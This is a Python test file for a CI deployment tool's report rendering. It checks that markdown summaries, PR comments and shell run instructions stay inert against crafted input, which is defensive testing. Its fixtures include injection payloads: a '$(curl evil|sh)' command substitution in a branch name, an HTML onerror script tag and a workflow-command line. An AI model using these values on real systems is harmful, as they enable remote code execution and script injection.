"""The job summary, the PR comment and the outputs: complete, and inert against
branch names, titles and paths crafted to inject Markdown, HTML or shell."""

from __future__ import annotations

import json
import re
import shlex

from flowship.actions.github import COMMENT_MARKER
from flowship.errors import Problem
from flowship.plan import Deletion, Plan, PlannedImage, PlannedWorkflow
from flowship.actions.report import DeploymentLine, ImageLine, Report, code_block, comment_markdown, md, outputs, summary_markdown
from flowship.scope import Scope
from flowship.workflow import AwsEcsMachine, Workflow

EVIL = "x`$(touch pwned)`|<img src=x onerror=alert(1)>\n::error::owned @admin [a](http://e.vil) *b* #1"
HEAD, BASE = "b" * 40, "a" * 40


def _plan(scope: Scope, name: str = "train", file: str = "flows/train.py") -> Plan:
    wf = PlannedWorkflow(name=name, file=file, entrypoint=f"{file}:{name}", deployment=f"{name}/{scope.name}",
                         image="ml", workflow=Workflow(machine=AwsEcsMachine()), reasons=(file, "requirements.txt"))
    return Plan(base=BASE, head=HEAD, scope=scope, workflows=(wf,), delete=(Deletion("old", f"old/{scope.name}"),),
                images=(PlannedImage("ml", "ml-" + HEAD, True, ("requirements.txt",)),),
                problems=(Problem("flows/bad.py", 3, "Workflow(machine=...) is not a call"),))


def _report(scope: Scope, **kw) -> Report:
    return Report(
        title=f"preview of {scope.branch} (#5)", scope=scope, head=HEAD, base=BASE, plan=_plan(scope),
        images=(ImageLine("ml", "reg/flowship@sha256:" + "c" * 64, True),),
        deployments=(
            DeploymentLine(f"train/{scope.name}", "created", url="http://ui/deployments/deployment/1",
                           run_url="http://ui/deployments/deployment/1/run"),
            DeploymentLine(f"old/{scope.name}", "deleted"),
            DeploymentLine(f"etl/{scope.name}", "skipped", detail="it runs a newer commit"),
        ),
        run_url="https://github.com/o/r/actions/runs/1", prefect_ui_url="http://ui", **kw,
    )


def test_md_escapes_every_markup_character_and_breaks_mentions():
    text = md(EVIL)
    assert "\n" not in text
    # Every ASCII punctuation character is backslash-escaped, so none is markup.
    unescaped = re.findall(r"(?<!\\)[`|\[\]()*#$]", text)
    assert unescaped == []
    assert "<" not in text and ">" not in text and "&lt;img src\\=x" in text
    assert "@\u200badmin" in text
    assert md("a\\b") == "a\\\\b"


def test_code_block_fence_outlasts_backticks_inside():
    block = code_block("a ```` b")
    assert block.startswith("`````\n") and block.endswith("\n`````")


def test_summary_says_what_changed_why_and_what_happened():
    scope = Scope.preview("feat/x", 5)
    text = summary_markdown(_report(scope))
    assert text.startswith("## flowship: preview of feat\\/x \\(\\#5\\)\n")
    assert "| train | flows\\/train\\.py | train\\/" in text
    assert "requirements\\.txt" in text  # the reason
    assert "| old | — | old\\/" in text and "removed from the repository" in text
    assert "| ml | rebuilt | reg\\/flowship@\u200bsha256\\:cccc" in text
    assert "[train\\/" in text and "](http://ui/deployments/deployment/1)" in text
    assert "1 created, 1 skipped, 1 deleted." in text
    assert "**flows\\/bad\\.py\\:3\\:** a declaration problem" in text
    assert "| flows\\/bad\\.py\\:3 | ❌ not deployed: Workflow\\(machine" in text
    assert "[This run](https://github.com/o/r/actions/runs/1)" in text


def test_crafted_branch_and_title_are_inert_in_summary_and_comment():
    branch = "feat/`$(curl evil|sh)`<b>|x"
    scope = Scope.preview(branch, 5)
    report = _report(scope, pr_title=EVIL)
    report = Report(**{**report.__dict__, "title": f"preview of {branch} {EVIL}"})
    for text in (summary_markdown(report), comment_markdown(report)):
        # Outside fenced code (whose content is literal text by definition):
        text = re.sub(r"(?ms)^```+sh\n.*?^```+$", "", text)
        # No raw HTML, no unescaped backtick/pipe from the user's values, no new line-start command.
        assert "<b>" not in text and "<img" not in text
        assert not any(line.startswith("::") for line in text.splitlines())
        assert "\\`\\$\\(curl evil\\|sh\\)\\`&lt;b&gt;\\|x" in text
    comment = comment_markdown(report)
    # The run instruction quotes the branch for the shell, inside a fence the branch cannot close.
    quoted = shlex.quote(branch)
    assert f"flowship run train --scope {quoted}\n" in comment
    assert quoted == "'feat/`$(curl evil|sh)`<b>|x'"


def test_comment_has_the_marker_links_and_how_to_run():
    scope = Scope.preview("feat-x", 5)
    text = comment_markdown(_report(scope))
    assert text.startswith(COMMENT_MARKER + "\n")
    assert "[run](http://ui/deployments/deployment/1/run)" in text
    assert "```sh\nflowship run train --scope feat-x\n```" in text
    assert "etl" not in text.split("```sh")[1]  # a skipped deployment is not offered to run


def test_comment_of_a_plan_only_run_lists_what_would_deploy():
    scope = Scope.preview("feat-x", 5)
    report = Report(title="preview of feat-x (#5)", scope=scope, head=HEAD, plan=_plan(scope),
                    notes=("This pull request comes from a fork.",))
    text = comment_markdown(report)
    assert "| Flow | Would deploy | Why |" in text and "| train | train\\/feat\\-x |" in text
    assert "> This pull request comes from a fork\\." in text
    assert "flowship run" not in text


def test_outputs_are_json_and_point_at_the_preview():
    scope = Scope.preview("feat-x", 5)
    out = outputs(_report(scope))
    assert json.loads(out["plan"])["head"] == HEAD
    assert json.loads(out["deployments"])[0] == {
        "deployment": "train/feat-x", "status": "created", "url": "http://ui/deployments/deployment/1"}
    assert json.loads(out["images"]) == {"ml": "reg/flowship@sha256:" + "c" * 64}
    assert out["preview-url"] == "http://ui/deployments/deployment/1"
    assert outputs(_report(Scope.main()))["preview-url"] == ""
